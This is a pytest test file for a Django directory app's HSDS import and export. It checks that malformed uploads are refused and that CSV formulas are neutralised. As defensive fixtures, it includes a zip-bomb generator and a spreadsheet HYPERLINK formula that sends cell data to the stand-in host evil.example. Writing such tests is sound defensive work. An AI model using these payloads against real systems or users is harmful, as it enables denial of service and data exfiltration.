"""HSDS imports: measured before reading, bounded while parsing, all or nothing, every failure in words."""

from __future__ import annotations

import io
import json
import secrets
import struct
import tracemalloc
import zipfile
import zlib
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from maillage.core.models import AuditEntry, User
from maillage.directory import hsds
from maillage.directory.models import DirectoryOrganisation, Schedule, Service
from maillage.directory.queries import published_services
from tests.conftest import client_for
from tests.directory.factories import make_service

pytestmark = pytest.mark.django_db
MB = 1024 * 1024
ORG = "7f0c1a2e-3b4d-4c5e-8f60-718293a4b5c6"
SERVICE = "8a1b2c3d-4e5f-4a6b-9c7d-8e9fa0b1c2d3"


def _upload(name: str, content: bytes) -> Any:
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def _zip_bomb(*, inflated: int = 400 * MB, declared: int | None = None) -> bytes:
    """A zip of one CSV member of `inflated` zeros (about 400 KB for 400 MB), built without inflating it:
    one deflate block of 1 MB of zeros, flushed to a byte boundary, repeated. `declared` lies about the size."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(b"0" * MB) + compressor.flush(zlib.Z_SYNC_FLUSH)
    data = block * (inflated // MB) + b"\x03\x00"  # an empty final block
    size = inflated if declared is None else declared
    name = b"services.csv"
    crc = 0  # never reached: the archive must be refused first
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(data), size, len(name), 0) + name
    central = (
        struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(data), size, len(name), 0, 0, 0, 0, 0, 0
        )
        + name
    )
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(local) + len(data), 0)
    return local + data + central + end


def _refused(upload: Any) -> list[str]:
    with pytest.raises(ValidationError) as error:
        hsds.import_upload(None, upload)
    return error.value.messages


def _nothing_written() -> bool:
    return (DirectoryOrganisation.objects.count(), Service.objects.count(), AuditEntry.objects.count()) == (0, 0, 0)


def test_a_zip_bomb_is_refused_from_its_directory_without_inflating() -> None:
    bomb = _zip_bomb()
    assert 350_000 < len(bomb) < 450_000
    tracemalloc.start()
    try:
        messages = _refused(_upload("directory.zip", bomb))
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert messages == ["L'archive décompressée dépasse 200 Mo."]
    assert peak < 5 * MB
    assert _nothing_written()


def test_a_zip_that_lies_about_its_size_is_refused_while_inflating() -> None:
    """The directory claims 1 MB (a plausible ratio): reading stops at the declared size, and the
    member's checksum, which cannot match, refuses it."""
    bomb = _zip_bomb(inflated=40 * MB, declared=MB)
    tracemalloc.start()
    try:
        messages = _refused(_upload("directory.zip", bomb))
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert messages == ["L'archive est endommagée : services.csv ne peut pas être lu."]
    assert peak < 5 * MB
    assert _nothing_written()


def test_deeply_nested_json_is_refused_with_a_message(federation_staff: User) -> None:
    """It raised RecursionError (a server error) before."""
    deep = b"[" * 100_000 + b"]" * 100_000
    page = client_for(federation_staff).post(reverse("directory:import"), {"file": _upload("deep.json", deep)})
    assert page.status_code == 200
    assert page.context["errors"] == ["Le JSON est imbriqué sur plus de 64 niveaux."]
    assert _nothing_written()


def test_an_upload_over_the_hsds_limit_is_refused_before_it_is_read(settings, federation_staff: User) -> None:  # type: ignore[no-untyped-def]
    settings.MAILLAGE_UPLOAD_LIMITS = {**settings.MAILLAGE_UPLOAD_LIMITS, "hsds": MB}
    big = _upload("big.json", b" " * (MB + 1))
    page = client_for(federation_staff).post(reverse("directory:import"), {"file": big})
    assert page.status_code == 200
    assert page.context["form"].errors == {"file": ["Le fichier est trop volumineux : la limite est de 1 Mo."]}
    assert _refused(_upload("big.json", b" " * (MB + 1))) == ["Le fichier est trop volumineux : la limite est de 1 Mo."]


def _datapackage(**tables: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in tables.items():
            archive.writestr(f"{name}.csv", text)
    return buffer.getvalue()


def test_an_over_long_csv_field_is_a_row_error_naming_file_and_line(federation_staff: User) -> None:
    archive = _datapackage(
        organizations=f"id,name\n{ORG},Asbl\n",
        services=f"id,organization_id,name,status\n{SERVICE},{ORG},{secrets.token_hex(100_000)},active\n",
    )
    page = client_for(federation_staff).post(reverse("directory:import"), {"file": _upload("d.zip", archive)})
    assert page.context["errors"] == ["services.csv: Ligne 2 : un champ dépasse 100000 caractères."]
    assert _nothing_written()


def test_a_csv_member_that_is_not_utf8_is_named() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("organizations.csv", "id,name\n")
        archive.writestr("services.csv", "id,name\n1,Caf\xe9\n".encode("latin-1"))
    assert _refused(_upload("d.zip", buffer.getvalue())) == ["services.csv n'est pas du texte UTF-8."]


def test_an_archive_without_csv_is_refused() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "hello")
    assert _refused(_upload("d.zip", buffer.getvalue())) == [
        "L'archive ne contient aucun fichier CSV d'un datapackage HSDS."
    ]


def _service(**fields: Any) -> dict[str, Any]:
    return {"id": SERVICE, "name": "Colis", "status": "active", "organization": {"id": ORG, "name": "Asbl"}, **fields}


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        (
            {"organization": {"id": ORG, "name": "Asbl", "locations": [1]}},
            "[0]: ce document n'a pas la structure d'une organisation ou d'un service HSDS",
        ),
        ({"phones": "02 555 12 34"}, "[0]: ce document n'a pas la structure d'une organisation ou d'un service HSDS"),
        (
            {"schedules": [{"id": SERVICE, "opens_at": "09:00", "closes_at": "12:00", "byday": "MO", "interval": "x"}]},
            "[0].schedules[0].interval: l'intervalle doit être un nombre entier de 1 à 52 : x",
        ),
        (
            {"schedules": [{"id": SERVICE, "opens_at": "09:00", "closes_at": "12:00", "interval": 10**30}]},
            "[0].schedules[0].interval: l'intervalle doit être un nombre entier de 1 à 52 : 10000000000000000000",
        ),
        (
            {"schedules": [{"id": SERVICE, "opens_at": "09:00", "closes_at": "12:00", "valid_from": "0001-01-01"}]},
            "[0].schedules[0].valid_from: l'année doit être comprise entre 1900 et 2100",
        ),
        ({"email": "pas une adresse"}, "[0].email: ce n'est pas une adresse email : pas une adresse"),
        (
            {"url": "https://example.org/" + "x" * 300},
            "[0].url: ce n'est pas une adresse web d'au plus 200 caractères : https://example.org/" + "x" * 80,
        ),
    ],
)
def test_malformed_documents_are_errors_naming_their_path_and_nothing_is_saved(
    fields: dict[str, Any], message: str
) -> None:
    """Each of these was a server error (AttributeError, ValueError, or a value too long for its column)."""
    with pytest.raises(ValidationError) as error:
        hsds.import_documents(None, [_service(**fields)])
    assert error.value.messages == [message]
    assert _nothing_written()
    assert Schedule.objects.count() == 0


def test_the_import_page_answers_every_bad_file_with_words(federation_staff: User) -> None:
    client = client_for(federation_staff)
    for name, content in (
        ("x.json", b"\xff\xfe"),
        ("x.json", json.dumps([_service(phones=[1])]).encode()),
        ("x.zip", b"PK\x03\x04broken"),
        ("x.zip", _zip_bomb(inflated=300 * MB)),
    ):
        page = client.post(reverse("directory:import"), {"file": _upload(name, content)})
        assert page.status_code == 200, name
        assert len(page.context["errors"]) == 1, name
    assert _nothing_written()


# Exports: formulas neutralised, our own export re-imported exactly.

FORMULA = '=HYPERLINK("http://evil.example/x?"&A1,"Cliquez ici")'


def _rows(files: dict[str, str], table: str) -> list[list[str]]:
    import csv

    return list(csv.reader(io.StringIO(files[f"{table}.csv"], newline="")))


def test_the_datapackage_neutralises_formulas_and_keeps_the_comma(themes) -> None:  # type: ignore[no-untyped-def]
    service = make_service(name_fr=FORMULA, name_nl="@SUM(1+1)", phone="+32 2 555 12 34")
    files = hsds.datapackage_files(published_services())
    header, row = _rows(files, "services")
    assert header[:5] == ["id", "organization_id", "name", "alternate_name", "description"]
    assert (row[0], row[2], row[3]) == (str(service.uuid), "'" + FORMULA, "'@SUM(1+1)")
    assert files["services.csv"].startswith("id,organization_id,name,")  # comma, no byte order mark
    [_header, phone] = _rows(files, "phones")
    assert phone[3] == "'+32 2 555 12 34"
    archive = zipfile.ZipFile(io.BytesIO(hsds.datapackage_zip(published_services())))
    assert archive.read("services.csv").decode() == files["services.csv"]


@pytest.mark.parametrize(
    "name",
    [FORMULA, "'=already quoted", "''+two quotes", "-5 °C", "\tTab", "It's fine", "'plain quote", "Normal"],
)
def test_reimporting_our_own_datapackage_gives_back_the_original_text(name: str) -> None:
    service = make_service(name_fr=name, name_nl=name, phone="+32 2 555 12 34")
    archive = hsds.datapackage_zip(published_services())
    Service.objects.update(name_fr="changed", name_nl="changed")
    hsds.import_upload(None, _upload("directory.zip", archive))
    service.refresh_from_db()
    assert (service.name_fr, service.name_nl, service.phones.get().number) == (name, name, "+32 2 555 12 34")
